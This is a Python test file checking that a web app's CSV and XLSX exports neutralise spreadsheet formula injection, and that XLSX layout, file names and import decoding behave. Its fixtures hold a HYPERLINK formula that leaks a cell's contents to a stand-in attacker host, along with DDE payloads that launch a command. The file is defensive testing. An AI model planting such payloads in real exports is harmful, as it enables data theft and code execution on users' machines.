"""Issue 19 finding 4 (spreadsheet formula injection) and issue 21 item 15 (XLSX widths, print set-up, names).

Names people type (units, fields, comments) must stay text in every export: a string cell in the XLSX (never a
formula), a leading `'` in the CSV (OWASP's CSV injection guidance). Helpers: `server/spreadsheet.py`.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from fastapi.testclient import TestClient
from sqlmodel import Session, select

from server.models import ProcedureField
from server.spreadsheet import append_row, csv_bytes, decode_text, safe_csv_cell, sniff_delimiter
from tests import logins
from tests.server.dashboard.world import World, build_world

EVIL_UNIT = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'
EVIL_VI = "+cmd|' /C calc'!A0"
EVIL_EN = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def world(session: Session) -> World:
    w = build_world(session)
    w.a1.name = EVIL_UNIT
    land = session.exec(select(ProcedureField).where(ProcedureField.code == "land")).one()
    land.name_vi, land.name_en = EVIL_VI, EVIL_EN
    session.commit()
    return w


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Đất đai", "Đất đai"),
        ("a=b", "a=b"),
        ("", ""),
        (-1, -1),
        (0.5, 0.5),
        (None, None),
    ],
)
def test_safe_csv_cell(value: object, expected: object) -> None:
    assert safe_csv_cell(value) == expected


def test_csv_bytes_round_trip_keeps_the_text_after_the_quote() -> None:
    data = csv_bytes([["name", "n"], [EVIL_UNIT, 3]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows == [["name", "n"], ["'" + EVIL_UNIT, "3"]]


def test_finding_4_csv_export_escapes_formula_names(client: TestClient, world: World) -> None:
    """Issue 19 finding 4: field names starting with `+`/`@` were written raw into monthly.csv."""
    logins.login(client, world.manager_a)
    response = client.get("/exports/monthly.csv?month=2026-10&unit=W-A")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    land = next(r for r in rows if r["field_code"] == "land")
    assert land["field_name_vi"] == "'" + EVIL_VI
    assert land["field_name_en"] == "'" + EVIL_EN
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value


def test_finding_4_xlsx_export_writes_text_never_formulas(client: TestClient, world: World) -> None:
    """Issue 19 finding 4: a unit named `=HYPERLINK(…)` became a live formula in monthly.xlsx."""
    logins.login(client, world.manager_a)
    response = client.get("/exports/monthly.xlsx?month=2026-10&unit=W-A")
    assert response.status_code == 200
    wb = openpyxl.load_workbook(io.BytesIO(response.content))
    found = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if cell.value in (EVIL_UNIT, EVIL_VI):
                    assert cell.data_type == "s"
                    found.add(cell.value)
    assert found == {EVIL_UNIT, EVIL_VI}  # the names are kept as they are, as text


def test_append_row_drops_characters_xml_cannot_hold() -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    assert append_row(ws, ["Quầy\x01 1", "=1+1", 2]) == 1
    assert append_row(ws, ["next"]) == 2
    out = io.BytesIO()
    wb.save(out)
    ws2 = openpyxl.load_workbook(out).active
    assert ws2 is not None
    assert [c.value for c in ws2[1]] == ["Quầy 1", "=1+1", 2]
    assert ws2["B1"].data_type == "s"


# --- item 15: widths, headers, print set-up, file names --------------------------------------------------------


def test_item_15_xlsx_columns_fit_status_words_and_every_sheet_prints_on_a4(
    client: TestClient, session: Session
) -> None:
    world = build_world(session)
    logins.login(client, world.manager_a)
    for lang in ("vi", "en"):
        response = client.get(f"/exports/monthly.xlsx?month=2026-10&unit=W-A&lang={lang}")
        assert response.status_code == 200
        assert f'filename="hai-long_W-A_2026-10_{lang}.xlsx"' in response.headers["content-disposition"]
        wb = openpyxl.load_workbook(io.BytesIO(response.content))
        for ws in wb.worksheets:
            assert int(ws.page_setup.paperSize) == 9, ws.title  # A4
            assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 0, ws.title
            assert ws.sheet_properties.pageSetUpPr.fitToPage, ws.title
            assert ws.print_title_rows, ws.title
            for row in ws.iter_rows():
                for cell in row:
                    if not isinstance(cell.value, str) or (cell.font.sz and cell.font.sz > 12):
                        continue  # titles spill over empty neighbours
                    width = ws.column_dimensions[cell.column_letter].width
                    if cell.alignment.wrap_text:  # headers wrap at spaces: each word fits
                        assert max(len(w) for w in cell.value.split()) <= width, (ws.title, cell.value, width)
                    else:
                        assert len(cell.value) <= width, (ws.title, cell.coordinate, cell.value, width)
        statuses = [c.value for row in wb.worksheets[0].iter_rows() for c in row if str(c.value)[:1] in "✓✗…"]
        assert statuses  # the status words are there, and (above) fit their column


def test_item_15_pdf_name_says_the_language_and_csv_has_none(client: TestClient, session: Session) -> None:
    world = build_world(session)
    logins.login(client, world.manager_a)
    pdf = client.get("/exports/monthly.pdf?month=2026-10&unit=W-A&lang=en")
    assert 'filename="hai-long_W-A_2026-10_en.pdf"' in pdf.headers["content-disposition"]
    data = client.get("/exports/monthly.csv?month=2026-10&unit=W-A&lang=en")
    assert 'filename="hai-long_W-A_2026-10.csv"' in data.headers["content-disposition"]


# --- reading imports ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "encoded",
    [
        "mã;tên\nQ1;Quầy một\n".encode(),
        "\ufeffmã;tên\nQ1;Quầy một\n".encode(),
        "mã;tên\nQ1;Quầy một\n".encode("utf-16"),
        "mã;tên\nQ1;Quầy một\n".encode("utf-16-le"),
        "mã;tên\nQ1;Quầy một\n".encode("utf-16-be"),
    ],
)
def test_decode_text_detects_utf8_and_utf16(encoded: bytes) -> None:
    assert decode_text(encoded) == "mã;tên\nQ1;Quầy một\n"


@pytest.mark.parametrize(("line", "delimiter"), [("a,b,c", ","), ("a;b;c", ";"), ("a\tb\tc", "\t"), ("a", ",")])
def test_sniff_delimiter(line: str, delimiter: str) -> None:
    assert sniff_delimiter(line) == delimiter
